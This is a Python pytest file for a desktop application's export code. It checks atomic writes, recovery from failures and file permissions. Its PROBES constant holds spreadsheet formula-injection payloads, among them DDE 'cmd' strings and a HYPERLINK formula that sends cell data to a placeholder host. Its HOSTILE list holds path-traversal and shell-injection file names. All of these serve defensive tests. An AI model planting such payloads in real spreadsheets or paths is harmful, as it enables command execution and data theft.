"""Exports are whole, inert and inside the chosen folder; the old file outlives every failure."""

from __future__ import annotations

import csv
import os
import re
import sys
from collections.abc import Iterator
from contextlib import closing, contextmanager
from importlib.util import find_spec
from pathlib import Path
from typing import Final
from zipfile import ZipFile

import openpyxl
import pytest
from exporting import TYPED
from letters import TEXT, reading_of, text_letter
from openpyxl.utils.escape import unescape

from imr_desktop.errors import Problem
from imr_desktop.export import formats, office, xlsx
from imr_desktop.export.csv_spreadsheet import meant
from imr_desktop.export.whole import slug
from imr_desktop.fields import label_of
from imr_desktop.model import Case, Slot
from imr_desktop.workspace import Workspace

NAMES: Final = [
    name
    for name in formats()
    if name != "highlighted"  # which takes nothing of letters that are text
    and (name != "parquet" or find_spec("pyarrow"))
]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "exports"
    made.mkdir()
    return made


def _target(folder: Path, name: str) -> Path:
    return folder / f"cases{formats()[name].suffix}"


def _tree(folder: Path) -> dict[str, bytes]:
    """Everything below a folder, hidden ones and empty folders too."""
    return {str(path.relative_to(folder)): path.read_bytes() if path.is_file() else b"" for path in folder.rglob("*")}


# --- whole ---


@contextmanager
def _full_disk(size: int) -> Iterator[None]:
    """No file can be longer than `size` bytes."""
    resource = pytest.importorskip("resource", reason="this system has no limit for files' sizes")
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)


@pytest.mark.parametrize("sizes", [4, pytest.param(20, marks=pytest.mark.full)])
@pytest.mark.parametrize("name", NAMES)
def test_a_full_disk_at_any_size_leaves_the_old_file(workspace: Workspace, folder: Path, name: str, sizes: int) -> None:
    out = _target(folder, name)
    workspace.export(name, out)
    before = _tree(folder)
    workspace.set_text(2, Slot(1, "request"), "something else, so that a file that was written would be another one")
    largest = max(map(len, before.values()))
    for step in range(sizes):
        with (
            _full_disk(largest * step // sizes),
            pytest.raises(Problem, match=r"Nothing was written to .* free some space"),
        ):
            workspace.export(name, out, force=True)
        assert _tree(folder) == before
    workspace.export(name, out, force=True)
    if name not in ("deidentified", "memo-docx"):  # which hold nothing of what was typed
        assert _tree(folder) != before


@pytest.mark.parametrize("name", NAMES)
def test_a_first_export_that_fails_leaves_nothing(workspace: Workspace, folder: Path, name: str) -> None:
    with _full_disk(100), pytest.raises(Problem, match="Nothing was written"):
        workspace.export(name, _target(folder, name))
    assert _tree(folder) == {}


def test_writing_in_place_would_have_lost_the_old_file(workspace: Workspace, folder: Path) -> None:
    """The control: the rig does break a file that is written where it stands."""
    out = folder / "cases.jsonl"
    workspace.export("jsonl", out)
    before = out.read_bytes()
    with _full_disk(1000), pytest.raises(OSError), out.open("wb") as file:  # noqa: PT011  # any will do
        file.write(before)
    assert out.read_bytes() != before


class Cancelled(BaseException):
    """What a person's wish to stop raises; a BaseException, as that of the keyboard is."""


@pytest.mark.parametrize("before_case", [0, 1])
@pytest.mark.parametrize("name", [*NAMES, "highlighted"])
def test_a_cancelled_export_leaves_the_old_file_and_nothing_else(
    workspace: Workspace, folder: Path, name: str, before_case: int
) -> None:
    told: list[tuple[int, int]] = []

    def cancel(done: int, total: int) -> None:
        told.append((done, total))
        if done == before_case:
            raise Cancelled

    out = _target(folder, name)
    workspace.export(name, out)
    before = _tree(folder)
    workspace.set_text(2, Slot(1, "request"), "something else")
    for target in (out, _target(folder / "new" / "deeper", name)):
        with pytest.raises(Cancelled):
            workspace.export(name, target, force=True, progress=cancel)
        assert _tree(folder) == before
    assert told == [(done, 2) for done in range(before_case + 1)] * 2


@pytest.mark.parametrize("name", [*NAMES, "highlighted"])
def test_progress_is_told_before_each_case_is_read(
    workspace: Workspace, folder: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    workspace.set_text(2, Slot(1, "request"), "something else")
    happened: list[tuple[str, int]] = []
    case = Workspace.case

    def read(self: Workspace, number: int) -> Case:
        happened.append(("read", number))
        return case(self, number)

    monkeypatch.setattr(Workspace, "case", read)
    workspace.export(name, _target(folder, name), progress=lambda done, _: happened.append(("told", done)))
    assert happened == [("told", 0), ("read", 1), ("told", 1), ("read", 2)]


@pytest.mark.parametrize("name", NAMES)
def test_what_stands_there_is_replaced_only_when_asked(workspace: Workspace, folder: Path, name: str) -> None:
    out = _target(folder, name)
    workspace.export(name, out)
    before = _tree(folder)
    with pytest.raises(Problem, match="there already and was left as it is"):
        workspace.export(name, out)
    assert _tree(folder) == before
    assert workspace.export(name, out, force=True) == 2


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no pipes among files here")
def test_a_pipe_or_a_device_is_never_replaced(workspace: Workspace, tmp_path: Path) -> None:
    """Whoever may write to /dev would lose /dev/null."""
    pipe, link = tmp_path / "pipe.jsonl", tmp_path / "link.jsonl"
    os.mkfifo(pipe)
    link.symlink_to(pipe)
    for out in (pipe, link):
        with pytest.raises(Problem, match="a device or a pipe"):
            workspace.export("jsonl", out, force=True)
    assert (pipe.is_fifo(), link.is_symlink()) == (True, True)


@pytest.mark.parametrize("name", ["csv", "label-studio"])
def test_a_set_of_files_is_replaced_all_or_none(
    workspace: Workspace, folder: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As on Windows, where a file that another program has open cannot be replaced."""
    out = folder / "set"
    workspace.export(name, out)
    last = max(out.iterdir(), key=lambda path: path.stat().st_mtime_ns)
    before = _tree(folder)
    workspace.set_text(2, TYPED, "something else")
    replace = Path.replace

    def held(self: Path, target: Path) -> Path:
        if Path(target).name in ("codebook.csv", "config.xml"):
            raise PermissionError(13, "The file is used by another program")
        return replace(self, target)

    monkeypatch.setattr(Path, "replace", held)
    with pytest.raises(Problem, match="used by another program"):
        workspace.export(name, out, force=True)
    assert _tree(folder) == before
    assert last.exists()


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root may write anywhere")
def test_a_folder_that_cannot_be_written_to_is_told(workspace: Workspace, folder: Path) -> None:
    folder.chmod(0o500)
    with pytest.raises(Problem, match="Permission denied"):
        workspace.export("jsonl", folder / "out.jsonl")
    folder.chmod(0o700)


def test_a_file_where_a_folder_should_be_is_told(workspace: Workspace, folder: Path) -> None:
    (folder / "file").write_text("mine")
    for name, out in (("jsonl", folder / "file" / "out.jsonl"), ("csv", folder / "file")):
        with pytest.raises(Problem, match="Nothing was written"):
            workspace.export(name, out, force=True)
    (folder / "dir").mkdir()
    with pytest.raises(Problem, match="Nothing was written"):
        workspace.export("jsonl", folder / "dir", force=True)
    assert _tree(folder) == {"file": b"mine", "dir": b""}


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no such modes")
@pytest.mark.parametrize("name", NAMES)
def test_exports_are_readable_by_their_owner_alone(workspace: Workspace, folder: Path, name: str) -> None:
    workspace.export(name, _target(folder, name))
    assert {path.stat().st_mode & 0o777 for path in folder.rglob("*") if path.is_file()} == {0o600}


# --- inert ---

PROBES: Final = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"more")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "＝1+1",
    "-5 mg",
    "+ROM",
)
"""Texts that a spreadsheet would run, or (the last two) that letters do hold."""

RUN: Final = ("=", "+", "-", "@", "＝", "\t", "\r")


def _plain_cells(folder: Path) -> list[str]:
    cells = []
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            cells += [cell for row in csv.reader(file) for cell in row]
    return cells


@pytest.mark.parametrize("probe", PROBES)
def test_no_cell_is_a_formula(workspace: Workspace, folder: Path, probe: str) -> None:
    workspace.set_text(1, TYPED, probe)
    workspace.export("csv-spreadsheet", folder / "tables")
    assert [cell for cell in _plain_cells(folder / "tables") if cell.startswith(RUN)] == []
    workspace.export("xlsx", folder / "cases.xlsx")
    with closing(openpyxl.load_workbook(folder / "cases.xlsx")) as book:
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "inlineStr"}
    assert probe in [cell.value for cell in cells]
    with ZipFile(folder / "cases.xlsx") as packed:
        sheets = b"".join(packed.read(name) for name in packed.namelist() if "worksheets" in name)
    assert b"<f>" not in sheets
    assert b"<hyperlink" not in sheets
    workspace.export("jsonl", folder / "cases.jsonl", force=True)
    assert f'"value": {_json(probe)}' in (folder / "cases.jsonl").read_text(encoding="utf-8")


def _json(text: str) -> str:
    return '"' + text.replace('"', '\\"') + '"'


@pytest.mark.parametrize("probe", PROBES)
def test_the_guard_is_undone(workspace: Workspace, folder: Path, probe: str) -> None:
    workspace.set_text(1, TYPED, probe)
    workspace.export("csv-spreadsheet", folder / "safe")
    workspace.export("csv", folder / "plain")
    safe, plain = (_rows(folder / name / "cases.csv") for name in ("safe", "plain"))
    assert safe != plain
    assert [[*map(meant, row)] for row in safe] == plain


def _rows(table: Path) -> list[list[str]]:
    with table.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def test_the_plain_dialect_would_have_run_them(workspace: Workspace, folder: Path) -> None:
    """The control: formulas are found where they are."""
    workspace.set_text(1, TYPED, PROBES[0])
    workspace.export("csv", folder / "tables")
    assert [cell for cell in _plain_cells(folder / "tables") if cell.startswith(RUN)] == ["=1+1"]


def test_a_cell_of_forty_thousand_characters_is_cut_nowhere(workspace: Workspace, folder: Path) -> None:
    long = " ".join(f"word{number}" for number in range(4800)) + " 𝒜" * 300
    assert len(long) > 40_000
    workspace.set_text(1, TYPED, long)
    workspace.export("xlsx", folder / "cases.xlsx")
    with closing(openpyxl.load_workbook(folder / "cases.xlsx")) as book:
        heads = [cell.value for cell in book["cases"][1]]
        first = book["cases"].cell(2, heads.index(label_of(TYPED)) + 1).value
        _, *rest = book["continued"].iter_rows(values_only=True)
    assert [row[:4] for row in rest] == [("cases", 2, label_of(TYPED), 2)]
    assert str(first) + str(rest[0][4]) == long
    assert max(len(str(part).encode("utf-16-le")) // 2 for part in (first, rest[0][4])) <= xlsx.LONGEST
    workspace.export("csv", folder / "tables")
    assert long in _plain_cells(folder / "tables")


def test_a_sheet_with_too_many_rows_is_told(
    workspace: Workspace, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx, "LAST_ROW", 3)
    with pytest.raises(Problem, match="Nothing was written; export CSV tables instead"):
        workspace.export("xlsx", folder / "cases.xlsx")
    assert _tree(folder) == {}


CONTROL: Final = "".join(map(chr, range(32))) + "\x7f\x85\u2028\u202e\ufeff\ufffe_x0041_"


@pytest.mark.parametrize("name", NAMES)
def test_control_characters_break_no_format(workspace: Workspace, folder: Path, name: str) -> None:
    data, source = text_letter(TEXT.replace("a crate", "a\u202ecrate\u2028"), name=f"odd{CONTROL[1:9]}.txt")
    reading = reading_of(source)
    workspace.add(data, source, reading)
    workspace.note(1, TYPED, f"a{CONTROL}b")
    workspace.set_value(1, TYPED, f"a{CONTROL}b")
    assert workspace.export(name, _target(folder, name)) == 3


def test_excel_reads_what_it_can_hold_and_sees_what_it_cannot(workspace: Workspace, folder: Path) -> None:
    workspace.set_value(1, TYPED, f"a{CONTROL}b")
    workspace.export("xlsx", folder / "cases.xlsx")
    with closing(openpyxl.load_workbook(folder / "cases.xlsx")) as book:
        heads = [cell.value for cell in book["cases"][1]]
        shown = book["cases"].cell(2, heads.index(label_of(TYPED)) + 1).value
    assert unescape(str(shown)) == f"a{office.clean(CONTROL)}b"
    assert "\ufffd\t\n" in str(shown)


# --- inside the chosen folder ---

HOSTILE: Final = (
    *("..", ".", "", " ", "/", "\\", "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x", "C:x"),
    *("CON", "con", "PRN", "AUX", "NUL", "COM1", "LPT9", "nul.txt", "aux ", "CONIN$", "~", "~root", "-rf", "--help"),
    *("a" * 300, "é" * 300, "a\x00b", "a\nb", "a\tb", "a:b", "a|b<c>d?e*f", '"quoted"', "a\u202etxt.exe", "𝒜𝒷"),
    *("$HOME", "`id`", "%PATH%", "name.", "name ", "\ufeff", "\u2028", "....//....//x", "file:///x"),
)


def test_forty_hostile_names_give_names_that_are_safe_everywhere() -> None:
    assert len(HOSTILE) >= 40
    devices = re.compile(r"(?i)(con|prn|aux|nul|conin|conout|com\d|lpt\d)(\..*)?")
    for name in HOSTILE:
        made = slug(name)
        assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9_-]{0,90}", made), name
        assert not devices.fullmatch(made), name


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_no_case_number_leads_out_of_an_export(workspace: Workspace, tmp_path: Path, hostile: str) -> None:
    workspace.set_value(1, workspace.case(1).value("letter.case_number").slot, hostile)
    packed = tmp_path / "in" / "cases.zip"
    workspace.export("brat", packed)
    with ZipFile(packed) as opened:
        names = opened.namelist()
        opened.extractall(tmp_path / "in" / "unpacked")
    assert len(set(names)) == 5
    assert all(re.fullmatch(r"\d{6}-[\w-]+\.(txt|ann)", name) for name in names[1:])
    assert {path.name for path in tmp_path.iterdir()} <= {"in", *(p.name for p in tmp_path.glob("library.imr*"))}


@pytest.mark.parametrize("hostile", ["a" * 300, "a\x00b", "..", ".", "", "x/\x00/y"], ids=range(6))
def test_a_target_that_cannot_be_is_told_and_nothing_is_left(workspace: Workspace, folder: Path, hostile: str) -> None:
    for force in (False, True):
        with pytest.raises(Problem):
            workspace.export("jsonl", folder / hostile, force=force)
    assert _tree(folder) == {}


@pytest.mark.full
def test_a_thousand_cases_come_back_the_same(tmp_path: Path) -> None:
    with Workspace.open(tmp_path / "library.imr", who="ann") as workspace:
        for number in range(1000):
            data, source = text_letter(TEXT.replace("CM17-9912345", f"CM17-{number:07}"), name=f"{number}.txt")
            case = next(iter(workspace.add(data, source, reading_of(source)).added))
            if number % 3 == 0:
                workspace.set_text(case, TYPED, f"fall number {number}")
        assert workspace.export("jsonl", tmp_path / "cases.jsonl") == 1000
    with Workspace.open(tmp_path / "new.imr", who="bob") as new:
        new.bring_back(tmp_path / "cases.jsonl")
        new.export("jsonl", tmp_path / "again.jsonl")
    assert (tmp_path / "again.jsonl").read_bytes() == (tmp_path / "cases.jsonl").read_bytes()
